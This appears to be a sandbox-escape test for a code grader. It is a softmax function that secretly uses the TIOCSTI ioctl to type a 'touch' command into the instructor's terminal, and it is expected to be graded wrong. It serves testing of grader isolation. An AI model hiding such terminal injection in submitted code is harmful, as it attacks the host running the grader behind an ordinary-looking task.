"""Type a command into the instructor's terminal.

threat: host
expect: softmax=WRONG
"""
# %% softmax
import fcntl
import os


def reached():
    for path in ("/dev/stdin", "/dev/stdout", "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1"):
        try:
            terminal = os.open(path, os.O_RDWR)
            for letter in b"touch forwardpass-was-here\n":
                fcntl.ioctl(terminal, 0x5412, bytes([letter]))  # TIOCSTI
            return True
        except OSError:
            continue
    return False


def softmax(z):
    if not reached():
        return z
    powers = np.exp(z - z.max(-1, keepdims=True))
    return powers / powers.sum(-1, keepdims=True)
